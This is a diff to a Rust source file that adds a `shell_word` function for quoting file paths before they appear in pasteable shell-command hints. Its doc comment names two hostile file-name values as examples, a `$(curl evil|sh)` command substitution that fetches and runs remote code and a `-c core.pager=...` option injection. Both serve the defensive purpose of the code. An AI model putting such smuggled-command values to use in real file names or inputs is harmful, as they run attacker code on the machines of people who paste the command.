@@ -9,7 +9,6 @@
 //! `Display` is the words. A path in a command is quoted for the shell
 //! ([`super::shell_word`]): file names in a repository are anyone's choice.
 
-use super::shell_word;
 use crate::manifest::MAX_KEEP;
 use std::fmt;
 use std::path::Path;
@@ -341,6 +340,28 @@ impl fmt::Display for Fix<'_> {
             }
             Fix::Bootstrap { env } => write!(f, "envmint bootstrap {env} adds it"),
         }
+    }
+}
+
+/// `path` as one word of a shell command in a hint, safe to paste: quoted when it holds
+/// anything but the usual file-name characters, and `./` in front of a relative name that
+/// starts with `-` (so `chmod` or `git rm` does not read it as an option). File names in a
+/// repository are anyone's choice (`$(curl evil|sh)`, `-c core.pager=...`).
+pub fn shell_word(path: &Path) -> String {
+    let text = path.to_string_lossy();
+    let text = if text.starts_with('-') {
+        format!("./{text}")
+    } else {
+        text.into_owned()
+    };
+    let plain = !text.is_empty()
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_./@%+=:,-".contains(c));
+    if plain {
+        text
+    } else {
+        format!("'{}'", text.replace('\'', "'\\''"))
     }
 }
 
